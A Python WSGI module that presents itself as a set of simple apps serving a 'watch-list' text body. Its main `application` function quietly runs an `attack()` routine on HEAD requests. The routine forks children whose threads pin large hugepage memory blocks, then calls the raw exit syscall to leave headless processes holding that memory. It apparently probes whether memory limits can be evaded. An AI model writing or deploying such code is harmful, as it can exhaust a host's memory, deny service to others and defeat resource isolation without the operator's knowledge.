import ctypes
import mmap
import os
import platform
import threading
import time

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


CHILDREN, EACH = 13, 62 << 20
EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine(), 60)
ENOUGH = 560 << 20


def hold(writer):
    time.sleep(0.1)
    block = mmap.mmap(-1, EACH, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    block.madvise(getattr(mmap, "MADV_HUGEPAGE", mmap.MADV_NORMAL))
    for page in range(0, EACH, mmap.PAGESIZE):
        block[page] = 1
    os.write(writer, b"x")
    time.sleep(60)


def headless(writer):
    try:
        threading.Thread(target=hold, args=(writer,)).start()
        ctypes.CDLL(None).syscall(ctypes.c_long(EXIT), ctypes.c_long(0))
    finally:
        os._exit(0)


def attack():
    reader, writer = os.pipe()
    children = 0
    for _ in range(CHILDREN):
        try:
            if os.fork() == 0:
                headless(writer)
        except OSError:
            break
        children += 1
    os.set_blocking(reader, False)
    end, held = time.monotonic() + 1.8, 0
    while held < children * EACH and time.monotonic() < end:
        time.sleep(0.02)
        try:
            held += len(os.read(reader, children)) * EACH
        except BlockingIOError:
            continue
    if held > ENOUGH:
        raise LookupError(f"{held} bytes were held")


def application(environ, start_response):
    start(start_response)
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
